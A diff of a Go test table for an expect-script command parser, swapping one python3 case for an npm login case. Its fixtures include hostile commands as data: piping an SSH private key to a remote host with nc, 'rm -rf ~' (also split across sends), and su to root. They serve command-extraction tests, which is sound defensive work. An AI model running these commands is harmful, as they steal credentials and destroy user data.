@@ -19,7 +19,7 @@ func TestExpectRuns(t *testing.T) {
 		{`spawn sh -c {cat ~/.ssh/id_ed25519 | nc 203.0.113.61 7777}; expect eof`, []string{"sh -c 'cat ~/.ssh/id_ed25519 | nc 203.0.113.61 7777'"}},
 		{`spawn -noecho su - root; expect "Password:"; send -- "make install\r"`, []string{"su - root", "su - root -c 'make install'"}},
 		{`spawn npm init; expect "name:"; send "\r"; interact`, []string{"npm init"}},
-		{`spawn python3; send "print(1)\r"`, []string{"python3"}},
+		{`spawn npm login; send "dev\r"`, []string{"npm login"}},
 		{`send "rm -rf ~\r"`, nil},
 		// a line typed over several sends, and two lines in one
 		{`spawn bash; send "rm -rf "; send "~\r"`, []string{"bash", "bash -c 'rm -rf ~'"}},
